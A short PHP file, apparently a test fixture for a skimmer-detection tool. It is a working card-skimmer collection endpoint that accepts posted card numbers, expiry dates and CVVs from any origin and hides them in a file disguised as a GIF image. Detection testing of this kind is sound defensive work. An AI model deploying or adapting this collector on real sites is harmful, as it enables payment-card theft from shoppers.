<?php
// Synthetic gate for skimwatch tests, shaped like the collectors that sit
// beside a skimmer on a compromised shop: it takes the posted card and
// appends it to a file disguised as an image. No real data is involved.
header('Access-Control-Allow-Origin: *');
if (!empty($_POST['ccnum'])) {
    $line = $_POST['ccnum'] . '|' . $_POST['exp_month'] . '/' . $_POST['exp_year'] . '|' . $_POST['cvv'] . "\n";
    file_put_contents(__DIR__ . '/../media/catalog/.cache.gif', $line, FILE_APPEND | LOCK_EX);
}
echo 'GIF89a';
